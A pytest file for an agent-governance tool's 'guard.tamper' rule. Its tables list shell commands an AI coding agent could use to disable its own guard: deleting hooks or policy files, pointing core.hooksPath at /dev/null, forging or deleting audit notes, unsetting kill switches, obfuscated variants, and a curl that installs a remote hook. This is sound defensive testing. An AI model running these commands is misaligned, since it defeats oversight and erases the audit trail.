"""guard.tamper: any change to the guard itself; it can never be turned off."""

from __future__ import annotations

from dataclasses import replace

import pytest

from agentgov.evaluators.rules.guard.tamper import (
    FILES_REMEDIATION,
    HOOKS_PATH_REMEDIATION,
    RULE,
)
from agentgov.policy.model import ActionClass, AuditSettings
from tests.rules.ruletest import context, default_policy, hits

POSITIVE = [
    # the guard's files, written by the shell and by ordinary tools
    "echo 'rules: {}' > .agentgov/policy.yaml",
    "cat /tmp/p.yaml >> .agentgov/policy.yaml",
    "printf x | tee .agentgov/policy.yaml",
    "printf x | sudo tee -a .agentgov/policy.yaml",
    "sed -i 's/level: 3/level: 5/' .agentgov/policy.yaml",
    "sed -i.bak -e 's/a/b/' .agentgov/policy.yaml",
    "perl -pi -e 's/deny/allow/' .agentgov/policy.yaml",
    "cp /tmp/policy.yaml .agentgov/policy.yaml",
    "cp -t .agentgov /tmp/policy.yaml",
    "mv /tmp/policy.yaml .agentgov/",
    "mv .agentgov .agentgov.off",
    "install -m 644 /tmp/p .agentgov/policy.yaml",
    "rm -rf .agentgov",
    "rm .agentgov/policy.yaml",
    "truncate -s 0 .agentgov/policy.yaml",
    "touch .agentgov/disabled",
    "chattr +i .agentgov/policy.yaml",
    "rm -f .git/hooks/pre-commit",
    "rm -rf .git/hooks",
    "chmod -x .git/hooks/pre-push",
    "chmod 000 .git/hooks",
    "mv .git/hooks/pre-push .git/hooks/pre-push.off",
    "ln -sf /dev/null .git/hooks/pre-commit",
    "echo 'exit 0' > .git/hooks/pre-commit",
    "dd if=/dev/null of=.git/hooks/pre-push",
    "rsync -a /tmp/hooks/ .git/hooks/",
    "cp -r /tmp/hooks .git/",
    "cp /tmp/config .git/",
    "curl -o .git/hooks/pre-push https://example.com/hook",
    "find .git/hooks -type f -delete",
    "find .git/hooks -name 'pre-*' -delete",
    "rm -rf .git",
    "rm -rf .git/agentgov",
    "rm -rf .git/refs/notes",
    "echo '{}' > .claude/settings.json",
    "cp /tmp/s.json .claude/settings.local.json",
    "echo '{}' > ~/.claude/settings.json",
    "rm -rf .claude",
    "echo 'repos: []' > .pre-commit-config.yaml",
    "rm .pre-commit-config.yaml",
    "rm -rf .a*",
    "cd src && rm -rf ../.agentgov",
    "echo x > /code/project/.agentgov/policy.yaml",
    'cd "$DIR" && rm -rf .git/hooks',
    "git checkout -- .agentgov/",
    "git checkout main -- .agentgov/policy.yaml",
    "git restore .agentgov/policy.yaml",
    "git rm -r .agentgov",
    "git -C src checkout -- ../.agentgov",
    # core.hooksPath
    "git config core.hooksPath /dev/null",
    "git config --global core.hooksPath /tmp/empty",
    "git config --local core.hookspath .nohooks",
    "git config --unset core.hooksPath",
    "git config set core.hooksPath /dev/null",
    "git -c core.hooksPath=/dev/null commit -m wip",
    "git -c core.hooksPath=/dev/null push",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/x git commit",
    "export GIT_CONFIG_PARAMETERS=\"'core.hooksPath'='/dev/null'\"",
    # the audit trail
    "git notes --ref agentgov remove HEAD",
    "git notes --ref=refs/notes/agentgov prune",
    "git notes --ref=agentgov edit HEAD",
    "git notes --ref agentgov add -f -m forged HEAD",
    "git notes --ref notes/agentgov copy -f HEAD~1 HEAD",
    "GIT_NOTES_REF=refs/notes/agentgov git notes remove HEAD",
    "git -c core.notesRef=refs/notes/agentgov notes prune",
    "git update-ref -d refs/notes/agentgov",
    "git update-ref refs/notes/agentgov 0000000000000000000000000000000000000000",
    "git update-ref --stdin <<< 'delete refs/notes/agentgov'",
    "printf 'delete refs/notes/agentgov\\n' | git update-ref --stdin",
    "git push origin :refs/notes/agentgov",
    "git push origin --delete refs/notes/agentgov",
    "git push -f origin refs/notes/agentgov",
    "git push origin '+refs/notes/*:refs/notes/*'",
    # agentgov's own switches
    "AGENTGOV_DISABLE=1 git commit -m x",
    "AGENTGOV_DISABLE=1",
    "export AGENTGOV_SKIP=guard.tamper",
    "export AGENTGOV_LEVEL=5",
    "AGENTGOV_TASK_CLASS=docs git push",
    "AGENTGOV_KILL_SWITCH=0 claude",
    "unset AGENTGOV_KILL_SWITCH",
    "declare -x AGENTGOV_OFF=1",
    "env AGENTGOV_DISABLE=1 make deploy",
    "SKIP=agentgov git commit -m x",
    "SKIP=ruff,agentgov-check git commit -m x",
    "pre-commit uninstall",
    "pre-commit uninstall -t pre-push",
    "agentgov uninstall",
    "python -m agentgov uninstall",
    # obfuscations
    "sudo rm -rf .git/hooks",
    "bash -c 'echo x > .agentgov/policy.yaml'",
    'sh -c "git config core.hooksPath /dev/null"',
    "eval 'rm -rf .agentgov'",
    "true && (cd .git && rm -rf hooks)",
    "/usr/bin/git config core.hooksPath /dev/null",
    "\\rm -rf .agentgov",
    "'r'm -rf .agentgov",
    "echo .agentgov | xargs rm -rf; rm -rf .agentgov",
    "nohup rm -rf .git/hooks &",
]

NEGATIVE = [
    "cat .agentgov/policy.yaml",
    "less .claude/settings.json",
    "grep -n level .agentgov/policy.yaml",
    "cp .agentgov/policy.yaml /tmp/policy.yaml",
    "sed -n '1,20p' .agentgov/policy.yaml",
    "sed 's/a/b/' .agentgov/policy.yaml > /tmp/out.yaml",
    "ls -la .git/hooks",
    "git diff .agentgov/",
    "git add .agentgov/policy.yaml",
    "git rm --cached -r .agentgov",
    "git restore --staged .agentgov/policy.yaml",
    "git config core.hooksPath",
    "git config --get core.hooksPath",
    "git config user.name bot",
    "git notes --ref agentgov show HEAD",
    "git notes --ref agentgov add -m note HEAD",
    "git notes remove HEAD",
    "git push origin refs/notes/agentgov",
    "git fetch origin refs/notes/agentgov:refs/notes/agentgov",
    "echo 'AGENTGOV_DISABLE=1'",
    'git commit -m "rm -rf .agentgov"',
    "echo 'git config core.hooksPath /dev/null'",
    "AGENTGOV_KILL_SWITCH=1 claude",
    "SKIP=flake8 git commit -m x",
    "pre-commit install",
    "pre-commit run --all-files",
    "agentgov status",
    "rm -rf *",
    "rm -rf build .cache",
    "echo hi > .gitignore",
    "cp x .git/",
    "find .git -name '*.lock' -delete",
    "find . -name '*.pyc' -delete",
    "echo x > /tmp/project/.agentgov/policy.yaml",
    "rm -rf /tmp/other/.git/hooks",
]


def test_tables_are_big_enough() -> None:
    assert len(POSITIVE) >= 20
    assert len(NEGATIVE) >= 10


def test_cannot_be_disabled() -> None:
    assert RULE.can_disable is False


@pytest.mark.parametrize("command", POSITIVE)
def test_flags_tampering(command: str) -> None:
    found = hits(RULE, command, context())
    assert found
    assert {hit.rule for hit in found} == {"guard.tamper"}
    assert {hit.action_class for hit in found} == {ActionClass.FORBIDDEN}


@pytest.mark.parametrize("command", NEGATIVE)
def test_ignores_reads_and_look_alikes(command: str) -> None:
    assert hits(RULE, command, context()) == []


def test_file_write_names_the_guarded_file() -> None:
    [hit] = hits(RULE, "sudo tee .agentgov/policy.yaml < /tmp/p", context())
    assert hit.fragment == "sudo tee .agentgov/policy.yaml < /tmp/p"
    assert hit.message.startswith(
        "tee on .agentgov/policy.yaml changes agentgov's policy directory .agentgov/"
    )
    assert hit.remediation == FILES_REMEDIATION


def test_hooks_path_remediation() -> None:
    [hit] = hits(RULE, "git -c core.hooksPath=/dev/null commit -m x", context())
    assert hit.remediation == HOOKS_PATH_REMEDIATION
    assert hit.remediation == (
        "leave core.hooksPath alone and let the hooks run; if a hook fails, fix what it reports"
    )


def test_notes_ref_comes_from_the_policy() -> None:
    policy = replace(default_policy(), audit=AuditSettings(notes_ref="refs/notes/trail"))
    ctx = context(policy=policy)
    assert hits(RULE, "git notes --ref trail remove HEAD", ctx)
    assert hits(RULE, "git notes --ref agentgov remove HEAD", ctx) == []


@pytest.mark.parametrize(
    "command",
    [
        "env -u AGENTGOV_AGENT claude",
        "env --unset=AGENTGOV_KILL_SWITCH git push",
        "sudo env -u AGENTGOV_AGENT -- git commit -m x",
        "env -i PATH=/usr/bin git commit -m x",
        "env -i bash",
    ],
)
def test_env_unset_or_emptied_environment(command: str) -> None:
    [hit] = hits(RULE, command, context())
    assert "AGENTGOV" in hit.message or "agentgov" in hit.message
